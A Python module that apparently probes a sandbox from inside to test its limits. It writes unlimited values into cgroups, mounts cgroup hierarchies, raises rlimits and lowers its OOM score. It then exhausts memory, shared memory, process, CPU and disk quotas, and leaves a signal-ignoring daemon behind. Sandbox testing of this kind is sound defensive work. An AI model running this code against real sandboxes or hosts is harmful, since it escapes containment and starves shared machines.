"""Attack the limits of a sandbox from inside: lift them, then take more memory, processes, time and disk."""

import contextlib
import glob
import os
import resource
import signal
import socket
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from polar_trl.tools.security.inside.base import LIBC, Given, enter_user_namespace, raise_limit

FREE_LIMITS = {
    "memory.memsw.limit_in_bytes": "-1",
    "memory.limit_in_bytes": "-1",
    "cpu.cfs_quota_us": "-1",
    "memory.max": "max",
    "memory.swap.max": "max",
    "pids.max": "max",
    "cpu.max": "max",
}
HOLD_S = 1.5
CHUNK = b"x" * (1 << 20)


def memory(given: Given) -> list[str]:
    """Lift the limits, then hold more memory than is allowed, in several processes."""
    got = lift_limits(given)
    size = given["limits"]["memory_mb"] * 2 // 3
    holders = [_start_holder(lambda: bytearray(size << 20)) for _ in range(3)]
    took = [pid for pid, pipe in holders if os.read(pipe, 1)]  # nothing where the holder has died
    # the kernel may have ended one that had its memory to make room for the next
    held = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in took)
    time.sleep(HOLD_S)
    _end([pid for pid, _ in holders])
    if held * size > given["limits"]["memory_mb"]:
        got.append(f"held {held * size} MB")
    # the holders are gone: what is left of the limit is for this
    if (in_sockets := _fill_sockets(given["limits"]["memory_mb"] + 32)) > given["limits"]["memory_mb"]:
        got.append(f"held {in_sockets} MB in buffers of sockets")
    return got


def _fill_sockets(most_mb: int) -> int:
    """Send datagrams that nobody reads, then count the megabytes of those that were kept."""
    held, num_bytes = [], 0
    with contextlib.suppress(OSError):
        for _ in range(most_mb * 6):
            held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            held[-1].bind(("127.0.0.1", 0))
            held[-1].setblocking(False)
            for _ in range(3):
                held[-1].sendto(b"x" * 60_000, held[-1].getsockname())
    for receiver in held:
        with contextlib.suppress(OSError):
            while True:
                num_bytes += len(receiver.recv(1 << 16))
    return num_bytes >> 20


def shared_memory(given: Given) -> list[str]:
    """Fill file systems that live in memory."""
    got, allowed = [], given["limits"]["memory_mb"] << 20
    for folder in ("/dev/shm", "/dev", "/", "/run", "/proc/acpi", "/proc/scsi"):
        path, written = os.path.join(folder, ".polar-trl-probe"), 0
        try:
            if os.stat(folder).st_dev == os.stat(".").st_dev:
                continue  # the session's own disk
            with open(path, "wb", buffering=0) as file:
                while written <= allowed:
                    written += file.write(CHUNK)
        except OSError:
            pass
        with contextlib.suppress(OSError):
            os.unlink(path)
        if written > allowed:
            got.append(f"{written >> 20} MB in {folder}")
    time.sleep(HOLD_S)  # small file systems are full before anybody outside has looked
    return got


def processes(given: Given) -> list[str]:
    """Lift the limits, then start more processes than are allowed."""
    got, pids = lift_limits(given), []
    with contextlib.suppress(OSError):
        for _ in range(3 * given["limits"]["pids"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            pids.append(pid)
    time.sleep(HOLD_S)
    _end(pids)
    return [*got, f"{len(pids)} processes"] if len(pids) > given["limits"]["pids"] else got


def cpu(given: Given) -> list[str]:
    """Lift the limits, then compute in more processes than there are cores."""
    got = lift_limits(given)
    pids = [pid for pid, _ in (_start_holder(_spin) for _ in range((os.cpu_count() or 1) + 1))]
    time.sleep(2.0)
    _end(pids)
    return got


def disk(given: Given) -> list[str]:
    """Write more than is allowed to the work folder, HOME and /tmp together."""
    written, allowed = 0, given["limits"]["disk_mb"] << 20
    folders = (".", os.environ["HOME"], tempfile.gettempdir())
    paths = [f"{folder}/big-{number}" for folder in folders for number in range(3)]
    for path in paths:
        with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
            for _ in range(given["limits"]["disk_mb"] // 2):
                written += file.write(CHUNK)
    for path in paths:
        with contextlib.suppress(OSError):
            os.unlink(path)
    return [f"wrote {written >> 20} MB"] if written > allowed else []


def daemon(given: Given) -> list[str]:
    """Leave a process behind; the caller looks whether it lives."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            time.sleep(60)
        os._exit(0)
    os.wait()
    return []


def control_groups(given: Given) -> list[str]:
    """Mount or open control groups: what they limit, freeze and kill is the machine's."""
    return [what for what in lift_limits(given) if "control group" in what]


def lift_limits(given: Given) -> list[str]:
    """Try everything against one's own limits."""
    got = _lift_groups(given["lifts"])
    enter_user_namespace()
    got += _lift_groups(given["lifts"])
    for name in ("RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_AS", "RLIMIT_FSIZE"):
        with contextlib.suppress(OSError, ValueError):
            raise_limit(getattr(resource, name))
    with contextlib.suppress(OSError):
        Path("/proc/self/oom_score_adj").write_text("-999")
    return got


def _lift_groups(lifts: bool) -> list[str]:
    """Write into every control group that can be had; where `lifts` is false, the values that are there."""
    got, mounted = [], []
    for kind, option in (
        *((b"cgroup", name) for name in (b"memory", b"pids", b"cpu", b"freezer")),
        (b"cgroup2", None),
    ):
        place = tempfile.mkdtemp()
        if LIBC.mount(b"none", place.encode(), kind, 0, option) == 0:
            got.append(f"mounted the control groups of {(option or kind).decode()}")
            mounted.append(place)
    for place in [*mounted, *glob.glob("/sys/fs/cgroup/*/"), "/sys/fs/cgroup"]:
        for name, value in FREE_LIMITS.items():
            with contextlib.suppress(OSError):
                with open(f"{place}/{name}", "r+") as file:
                    file.write(value if lifts else file.read())
                got.append(f"changed the control group's {name}")
        with contextlib.suppress(OSError):
            with open(f"{place}/cgroup.procs", "r+") as file:
                file.write(str(os.getpid()))
            got.append("joined another control group")
    for place in mounted:
        LIBC.umount2(place.encode(), 2)
    return got


def _start_holder(take: Callable[[], object]) -> tuple[int, int]:
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(BaseException):
            taken = take()
            os.write(writer, b"1")
            time.sleep(30)
            del taken
        os._exit(0)
    os.close(writer)
    return pid, reader


def _spin() -> None:
    end = time.monotonic() + 20
    while time.monotonic() < end:
        pass


def _end(pids: list[int]) -> None:
    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    for pid in pids:
        with contextlib.suppress(OSError):
            os.waitpid(pid, 0)
